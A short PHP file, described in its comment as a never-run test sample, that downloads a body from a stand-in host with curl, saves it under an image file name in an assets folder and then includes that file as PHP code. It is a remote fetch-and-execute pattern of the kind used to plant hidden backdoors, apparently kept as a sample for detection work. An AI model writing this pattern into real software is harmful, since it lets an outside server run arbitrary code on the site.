<?php
// Test sample (never run): a body fetched by a download helper of the file's own is written
// under a name joined of variables and then that same joined name is included.
function grab($u)
{
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    return curl_exec($c);
}
$dir = dirname(__FILE__) . '/assets';
$sep = '/';
$name = 'pic' . '.jpg';
$body = grab('http://cdn.example.invalid/p.txt');
$h = fopen($dir . $sep . $name, 'w');
fwrite($h, $body);
fclose($h);
include_once($dir . $sep . $name);
